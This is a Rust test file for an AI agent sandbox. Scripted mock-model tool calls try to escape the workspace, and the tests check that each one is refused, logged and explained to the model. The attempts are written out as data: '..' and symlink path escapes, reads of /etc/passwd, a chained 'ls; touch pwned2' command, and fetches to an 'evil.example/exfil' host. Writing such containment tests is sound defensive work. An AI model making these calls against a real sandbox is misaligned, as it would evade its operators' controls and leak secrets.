//! Every way a task can go wrong fails safely, visibly to the model, and in the audit log.

mod common;

use common::*;
use serde_json::json;
use testkit::{MockLlm, Reply, Script};

/// Run a one-call script and return the install, the model's requests and the audit.
async fn attempt(
    setup: AgentSetup<'_>,
    calls: Vec<Reply>,
) -> (Install, Vec<serde_json::Value>, Vec<serde_json::Value>) {
    let mut replies = calls;
    replies.push(Reply::Text("finished".into()));
    let llm = MockLlm::start(Script::new(replies)).await;
    let inst = Install::new(&llm.base_url(), setup);
    // Nobody answers here: a pending approval expires after a second and is denied.
    let cfg = format!("{}\n[approvals]\ntimeout_secs = 1\n", read(&inst.config));
    std::fs::write(&inst.config, cfg).unwrap();
    let out = inst.cordon(&["run", "do the thing"]).await;
    assert_ok(&out);
    assert_eq!(
        text(&out.stdout).trim(),
        "finished",
        "the loop went on to the final answer"
    );
    let records = inst.audit().await;
    assert_ok(&inst.cordon(&["log", "verify"]).await);
    (inst, llm.requests(), records)
}

#[tokio::test(flavor = "multi_thread")]
async fn path_escape_by_dotdot() {
    let (inst, requests, records) = attempt(
        AgentSetup::default(),
        vec![
            tool(
                "write_file",
                json!({"path": "../escaped.txt", "content": "x"}),
            ),
            tool("read_file", json!({"path": "sub/../../cordon.toml"})),
        ],
    )
    .await;
    assert!(!inst.dir.path().join("escaped.txt").exists());
    assert_refused(&records, "write_file", "../escaped.txt");
    assert_refused(&records, "read_file", "../../cordon.toml");
    let seen = tool_results_seen_by_model(&requests).join("\n");
    assert!(
        !seen.contains("[agents.default]"),
        "config content leaked: {seen}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn path_escape_by_absolute_path() {
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted.txt");
    let (_inst, requests, records) = attempt(
        AgentSetup::default(),
        vec![
            tool("read_file", json!({"path": "/etc/passwd"})),
            tool(
                "write_file",
                json!({"path": target.display().to_string(), "content": "x"}),
            ),
        ],
    )
    .await;
    assert!(!target.exists());
    assert_refused(&records, "read_file", "/etc/passwd");
    assert_refused(&records, "write_file", "planted.txt");
    assert!(
        !tool_results_seen_by_model(&requests)
            .join("\n")
            .contains("root:x:0:0")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn path_escape_by_symlink_made_during_the_task() {
    // The secret lives outside the workspace; a command in the task plants symlinks to it.
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "TOP-SECRET-CONTENT").unwrap();
    let (inst, requests, records) = attempt(
        AgentSetup { exec_mode: "auto", ..Default::default() },
        vec![
            tool(
                "exec",
                json!({"command": format!("ln -s {} leak && ln -s / rootlink && ln -s ../.. up", secret.display())}),
            ),
            tool("read_file", json!({"path": "leak"})),
            tool("read_file", json!({"path": "rootlink/etc/passwd"})),
            tool("write_file", json!({"path": "leak", "content": "overwritten"})),
            tool("list_dir", json!({"path": "up"})),
        ],
    )
    .await;
    assert!(
        inst.workspace.join("leak").symlink_metadata().is_ok(),
        "the symlink was planted"
    );
    assert_eq!(read(&secret), "TOP-SECRET-CONTENT", "target untouched");
    assert_refused(&records, "read_file", "\"leak\"");
    assert_refused(&records, "read_file", "rootlink/etc/passwd");
    assert_refused(&records, "write_file", "overwritten");
    assert_refused(&records, "list_dir", "up");
    let seen = tool_results_seen_by_model(&requests).join("\n");
    assert!(
        !seen.contains("TOP-SECRET-CONTENT") && !seen.contains("root:x:0:0"),
        "{seen}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn exec_in_deny_mode() {
    let (inst, _requests, records) = attempt(
        AgentSetup {
            exec_mode: "deny",
            ..Default::default()
        },
        vec![tool("exec", json!({"command": "touch pwned"}))],
    )
    .await;
    assert!(!inst.workspace.join("pwned").exists());
    let refusal = assert_refused(&records, "exec", "touch pwned");
    assert!(refusal.contains("deny"), "{refusal}");
}

#[tokio::test(flavor = "multi_thread")]
async fn exec_needing_approval_under_run_is_denied() {
    let (inst, requests, records) = attempt(
        AgentSetup {
            exec_mode: "allowlist",
            exec_allow: r#"["ls"]"#,
            ..Default::default()
        },
        vec![
            tool("exec", json!({"command": "ls"})),
            tool("exec", json!({"command": "touch pwned"})),
            tool("exec", json!({"command": "ls; touch pwned2"})),
        ],
    )
    .await;
    assert!(!inst.workspace.join("pwned").exists());
    assert!(!inst.workspace.join("pwned2").exists());
    let (ls, _) = outcome(&records, "exec", "\"ls\"");
    assert_eq!(ls.unwrap()["data"]["decision"], "allow");
    for needle in ["\"touch pwned\"", "ls; touch pwned2"] {
        let (d, _) = outcome(&records, "exec", needle);
        assert_eq!(
            d.unwrap()["data"]["decision"],
            "ask",
            "{needle} needed approval"
        );
    }
    let approvals: Vec<_> = of_kind(&records, "approval")
        .into_iter()
        .filter(|r| r["data"]["state"] == "decided")
        .collect();
    assert_eq!(approvals.len(), 2, "both questions recorded");
    for a in &approvals {
        assert_eq!(a["data"]["answer"]["answer"], "expired", "{a}");
    }
    let seen = tool_results_seen_by_model(&requests).join("\n");
    assert!(
        seen.contains("non-interactive"),
        "the model was told why: {seen}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn http_fetch_to_a_host_not_allowed() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (_inst, _requests, records) = attempt(
        AgentSetup {
            egress_allow: r#"["api.github.com"]"#,
            ..Default::default()
        },
        vec![
            tool(
                "http_fetch",
                json!({"url": format!("http://127.0.0.1:{port}/steal")}),
            ),
            tool("http_fetch", json!({"url": "http://evil.example/exfil"})),
        ],
    )
    .await;
    assert!(
        listener.accept().is_err(),
        "nothing connected to the host service"
    );
    for needle in ["/steal", "evil.example"] {
        let refusal = assert_refused(&records, "http_fetch", needle);
        assert!(
            refusal.contains("egress"),
            "reason names the rule: {refusal}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tool_the_agent_is_not_given() {
    let (inst, requests, records) = attempt(
        AgentSetup {
            tools: r#"["read_file", "list_dir"]"#,
            exec_mode: "auto",
            ..Default::default()
        },
        vec![
            tool("exec", json!({"command": "touch pwned"})),
            tool("teleport", json!({})),
        ],
    )
    .await;
    assert!(!inst.workspace.join("pwned").exists());
    assert_refused(&records, "exec", "touch pwned");
    assert_refused(&records, "teleport", "{}");
    // The model is only offered the tools it has.
    let offered = requests[0]["tools"].to_string();
    assert!(
        offered.contains("read_file") && !offered.contains("\"exec\""),
        "{offered}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_tool_arguments() {
    let (inst, requests, records) = attempt(
        AgentSetup::default(),
        vec![
            Reply::RawArguments {
                name: "write_file".into(),
                arguments: "{\"path\": \"a.txt\", \"content\": ".into(),
            },
            tool("write_file", json!({"path": "b.txt"})),
            tool(
                "edit_file",
                json!({"path": "c.txt", "old_string": 5, "new_string": "x"}),
            ),
        ],
    )
    .await;
    assert!(!inst.workspace.join("a.txt").exists() && !inst.workspace.join("b.txt").exists());
    assert_refused(&records, "write_file", "a.txt");
    assert_refused(&records, "write_file", "b.txt");
    assert_refused(&records, "edit_file", "c.txt");
    let seen = tool_results_seen_by_model(&requests).join("\n");
    assert!(
        seen.contains("content"),
        "the model was told the missing field: {seen}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn unreachable_llm_endpoint() {
    // A port with nothing listening.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let inst = Install::new(
        &format!("http://127.0.0.1:{port}/v1"),
        AgentSetup::default(),
    );
    let out = inst.cordon(&["run", "hello"]).await;
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!("127.0.0.1:{port}")),
        "error names the endpoint: {err}"
    );
    let records = inst.audit().await;
    let errors = of_kind(&records, "error");
    assert!(
        errors
            .iter()
            .any(|r| r["data"].to_string().contains(&port.to_string())),
        "{errors:?}"
    );
    assert_ok(&inst.cordon(&["log", "verify"]).await);
}
